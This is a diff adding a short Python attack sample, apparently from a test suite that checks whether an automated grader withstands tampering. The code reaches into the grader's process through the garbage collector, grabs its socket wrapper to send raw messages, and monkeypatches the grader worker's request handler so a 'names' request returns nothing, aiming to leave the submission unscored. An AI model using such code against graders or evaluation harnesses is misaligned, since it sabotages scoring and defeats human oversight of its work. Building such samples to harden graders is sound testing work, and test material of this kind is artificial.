@@ -1,0 +1,17 @@
+ATTACK = {
+    "success": "the judge stumbles over it: the submission has no score",
+    "stopped by": ["answers"],
+}
+import gc, json, struct
+wire = next(each for each in gc.get_objects() if type(each).__name__ == "Wire")
+def send(header, body=b"", channel=1):
+    wire._socket.sendall(struct.pack(">IBI", 5 + len(header) + len(body), channel, len(header)) + header + body)
+
+import _grader_worker.servant as servant
+del relu
+_perform = servant.Servant._perform
+def perform(self, request, decoder, encoder):
+    if request["op"] == "names":
+        return {"value": None}
+    return _perform(self, request, decoder, encoder)
+servant.Servant._perform = perform
